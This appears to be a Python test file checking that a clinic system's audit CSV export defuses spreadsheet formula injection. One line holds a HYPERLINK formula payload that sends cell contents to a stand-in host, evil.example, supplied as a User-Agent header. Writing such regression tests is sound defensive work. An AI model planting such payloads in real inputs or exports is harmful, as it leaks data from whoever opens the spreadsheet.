"""Issue 16, item 6: a value a spreadsheet would run as a formula (a User-Agent of ``=HYPERLINK(…)``) is exported
inert: every CSV cell starting with = + - @, a tab or a carriage return gets a leading apostrophe."""

from __future__ import annotations

import csv
import io

import asyncpg
import httpx

from core.identity import Role
from core.inputs import csv_cell
from core.vault import Vault
from tests.support.factories import make_patient


async def test_the_audit_export_neutralises_formulas(
    client: httpx.AsyncClient,
    staff_token,  # type: ignore[no-untyped-def]
    pool: asyncpg.Pool,
    vault: Vault,
) -> None:
    tech, admin = await staff_token(Role.LAB_TECHNICIAN), await staff_token(Role.ADMIN)
    async with pool.acquire() as conn:
        p = await make_patient(conn, vault)
    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    await client.get(f"/api/staff/patients/{p.id}", headers={"Authorization": f"Bearer {tech}", "User-Agent": evil})
    export = await client.get(f"/api/admin/audit.csv?patient_id={p.id}", headers={"Authorization": f"Bearer {admin}"})
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert f"'{evil}" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_every_formula_prefix_is_neutralised_and_plain_values_are_not_touched() -> None:
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(value) == "'" + value
    assert [csv_cell(v) for v in ("Asha", "2026-12-06T10:00:00+05:30", 42, None)] == [
        "Asha", "2026-12-06T10:00:00+05:30", "42", ""
    ]  # fmt: skip
